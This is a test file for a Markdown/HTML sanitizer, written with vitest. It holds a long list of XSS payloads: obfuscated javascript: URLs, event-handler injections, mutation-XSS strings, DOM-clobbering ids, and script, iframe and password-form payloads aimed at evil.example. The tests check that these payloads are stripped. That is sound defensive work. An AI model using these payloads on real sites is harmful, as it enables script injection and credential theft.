import { describe, expect, it } from "vitest";
import { sanitize } from "../../src/render/sanitize.ts";
import { RenderBudget } from "../../src/render/render-budget.ts";
import { render } from "./render-text.ts";

/**
 * Markdown and HTML that try to run code, to draw over the page, or to take over its ids and names.
 */
const ATTACKS: readonly string[] = [
  // Schemes, in spellings that browsers accept.
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&#x3A;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[x](&Tab;javascript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](VBSCRIPT:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](blob:https://forge.example/1)",
  "[x](view-source:javascript:1)",
  "[x](filesystem:https://forge.example/temporary/x)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![x](vbscript:x)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '<a href="javascript:alert(1)">x</a>',
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=javascript:alert(1)>x</a>",
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<div>\n<a href="java\nscript:alert(1)">x</a>\n</div>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&#0;script:alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="data:text/html,x">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/png;base64,AAAA">',
  '<img srcset="javascript:alert(1) 1x">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)"></video>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<svg><a xlink:href="javascript:alert(1)"><path d="M0 0"/></a></svg>',
  '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  // Paint servers: a request to another host, or an element of the page.
  '<svg><path d="M0 0" fill="url(https://evil.example/x.svg#p)"/></svg>',
  '<svg fill="url(//evil.example/x)"><path stroke="red url(#app)" d="M0 0"/></svg>',
  '<svg><path fill="URL(\\68ttps://evil.example)" stroke="u\\72l(#x)" d="M0 0"/></svg>',
  '<svg><path fill="none/**/url(#x)" stroke="var(--x)" stroke-width="calc(1px)" d="M0 0"/></svg>',
  '<svg><image href="https://evil.example/x"/><path d="M0 0" href="//evil.example" cite="//evil.example/"/></svg>',
  '<math href="javascript:alert(1)">x</math>',
  "[[javascript:alert(1)]]",
  "[[x|javascript:alert(1)]]",
  // Code and handlers.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<script>alert(1)",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "text <script>alert(1)</script> text",
  "<script/x>alert(1)</script>",
  "<b onclick=alert(1)>x</b>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert`1`>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x" ONERROR="alert(1)">',
  '<img """><script>alert(1)</script>">',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  '<video><source onerror="alert(1)"></video>',
  '![x](x"onerror="alert(1))',
  '[x](y "\\" onmouseover=\\"alert(1)")',
  "`<img src=x onerror=alert(1)>`",
  "```\n</code></pre><script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "```js onload=alert(1)\nx\n```",
  '$"><script>alert(1)</script>$',
  "# <script>alert(1)</script>",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "---\na: <script>alert(1)</script>\n---\n",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "> [!NOTE]\n> <script>alert(1)</script>",
  "- [ ] <img src=x onerror=alert(1)>",
  // Embedded documents, forms, and elements that navigate the page.
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<input type="password" name="p">',
  '<input type="image" src="javascript:alert(1)">',
  '<button formaction="javascript:alert(1)">x</button>',
  "<textarea></textarea><script>alert(1)</script>",
  "<select><option>x</option></select>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>body{display:none}</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  // HTML that one parser reads as text and another as tags.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  '<template><img src=x onerror="alert(1)"></template>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)>?>",
  "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<a title='x\" onmouseover=\"alert(1)'>x</a>",
  // Unclosed constructs that try to swallow the following tags.
  '<div class="code-block"\n\n# Heading',
  "<div title='\n\n# Heading's",
  "<kbd><img src=x onerror=alert(1) </kbd>\n\n# Heading",
  "<!-- \n\n# Heading",
  "<a href='\n\n- [ ] x'",
  // The page's own classes, ids, names and styles.
  '<div class="ui modal">x</div>',
  '<pre class="code-block is-loading">x</pre>',
  '<span class="emoji hljs-keyword">x</span>',
  '<a class="ref-issue" href="https://evil.example">#1</a>',
  '<code class="language-x ui button">x</code>',
  '<div id="app">x</div>',
  '<a name="location">x</a>',
  '<img name="getElementById">',
  '<div style="position:fixed;top:0">x</div>',
  '<div style="background-color:red;position:fixed">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-color:url(https://evil.example/x)">x</div>',
  '<div style="color:expression(alert(1))">x</div>',
  '<p style="color:\\72 ed">x</p>',
  '<div data-url="/logout" data-modal="#x">x</div>',
  '<a href="https://evil.example" target="_top" rel="opener">x</a>',
  '<input type="checkbox" data-source-position="0">',
  '<div contenteditable tabindex=1 accesskey=x is="x-y" slot=x>x</div>',
];

/** A tag as the sanitizer writes it: attributes in quotes. */
const TAG = /<([a-z][a-z\d]*)((?: [a-z-]+(?:="[^"<>]*")?)*)\/?>/g;

/** Returns the parts of the output that are not allowed; empty for harmless output. */
function findFaults(html: string): string[] {
  const faults: string[] = [];
  for (const [tag, element = "", text = ""] of html.matchAll(TAG)) {
    const attributes = new Map(
      [...text.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)].map(
        ([, name = "", value = ""]) => [name, value] as const,
      ),
    );
    const values = [...attributes].every(
      ([name, value]) => ATTRIBUTES.has(name) && (VALUES[name]?.test(value) ?? true),
    );
    const isLink = element === "a" && attributes.has("href");
    const isFaulty =
      !ELEMENTS.has(element) ||
      !values ||
      (isLink && !attributes.has("rel")) ||
      (element === "input" && !(attributes.has("type") && attributes.has("disabled")));
    if (isFaulty) faults.push(tag);
  }
  // Every other `<` must start a closing tag.
  const rest = html.replaceAll(TAG, "").replaceAll(/<\/[a-z][a-z\d]*>/g, "");
  if (/[<>]/.test(rest)) faults.push(rest);
  return faults;
}

/** Patterns of allowed attribute values. */
const ADDRESS = /^(?:https?:\/\/|#(?:fn\w*:)?user-content-)/;
const NAME = /^(?:fn\w*:)?user-content-/;
const VALUES: Readonly<Record<string, RegExp>> = {
  href: ADDRESS,
  src: ADDRESS,
  poster: ADDRESS,
  id: NAME,
  name: NAME,
  fill: /^(?:none|[a-z]+|#[0-9a-f]+)$/i,
  stroke: /^(?:none|[a-z]+|#[0-9a-f]+)$/i,
  "stroke-width": /^[\d.]+$/,
  rel: /^nofollow(?: noopener)?$/,
  style: /^background-color:red$/,
  target: /^_blank$/,
};

const ELEMENTS = new Set(
  `a b blockquote br code details div em h1 h2 hr img input kbd li ol p path pre span strong summary
   sup svg table tbody td th thead tr ul video`.split(/\s+/),
);
const ATTRIBUTES = new Set(
  `alt aria-hidden aria-label cite checked class d data-source-position disabled fill height href
   id name open poster rel src stroke stroke-width style target title type viewbox width`.split(
    /\s+/,
  ),
);

describe("an attack", () => {
  it.each(ATTACKS)("leaves only allowed tags, attributes and schemes: %j", async (attack) => {
    for (const mode of ["gfm", "comment", "wiki"] as const) {
      expect(findFaults(await render(attack, { mode }))).toEqual([]);
    }
  });

  // Verifies that `findFaults` detects faults.
  it.each([
    '<a href="javascript:1" rel="nofollow">',
    '<a href="https://x/">',
    "<script>",
    '<b onclick="x">',
    "a < b",
    '<div id="app">',
  ])("would be detected: %j", (html) => {
    expect(findFaults(html)).not.toEqual([]);
  });

  it.each([
    ['<div class="ui modal code-block is-loading emoji">x</div>', "<div>x</div>"],
    ['<code class="language-x ui button">x</code>', "<p><code>x</code></p>"],
    ['<b class="hljs-keyword">x</b>', "<p><b>x</b></p>"],
    ['<div style="background-color:red;position:fixed">x</div>', "<div>x</div>"],
    ['<p data-source-position="1" style="color:\\72 ed">x</p>', "<p>x</p>"],
    ["a <script>alert(1)</script> b", "<p>a  b</p>"],
    ["<script>alert(1)</script>", ""],
    ["<style>p{}</style>", ""],
  ])("cannot imitate the page's own elements: %j", async (attack, html) => {
    expect((await render(attack)).trim()).toBe(html);
  });

  // An unclosed attribute would swallow the id and class of the next rendered element.
  it("cannot swallow the elements after it", async () => {
    expect(await render('<div class="x"\n\n# Heading')).toContain(
      '<h1 id="user-content-heading">Heading</h1>',
    );
    expect(await render("<div title='\n\n# Heading's")).toContain(
      '<h1 id="user-content-headings">Heading\'s</h1>',
    );
  });
});

describe("HTML that ends within a tag", () => {
  it.each([
    ["<b>x<a title='", "<b>x</b>"],
    ["<table><a title=", "<table></table>"],
    ["<b>x<script ", "<b>x</b>"],
    ["<b>x</b", "<b>x</b>"],
    ["<b><title>x<i ", "<b></b>"],
  ])("stays balanced: %j", async (html, sanitized) => {
    expect(await sanitize([html], new RenderBudget())).toBe(sanitized);
  });
});

describe("HTML in a text", () => {
  it.each([
    ['<p align="center"><img src="logo.png" width="20"></p>', 'width="20"/></p>'],
    ["<details><summary>More</summary>\n\n**x**\n\n</details>", "<p><strong>x</strong></p>"],
    ["H<sub>2</sub>O <kbd>a</kbd> <br> <b>b", "<p>H<sub>2</sub>O <kbd>a</kbd> <br/> <b>b</b></p>"],
    ['<span style="color: #fff">x</span>', '<span style="color: #fff">x</span>'],
    ['<a id="top" href="#top">x</a>', '<a id="user-content-top" href="#user-content-top" rel'],
    ['<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example" rel="nofollow">x</a>'],
    ["a &lt; b &amp;amp; c &copy;", "a &lt; b &amp;amp; c ©"],
  ])("is kept if it is harmless: %j", async (source, html) => {
    expect(await render(source)).toContain(html);
  });
});
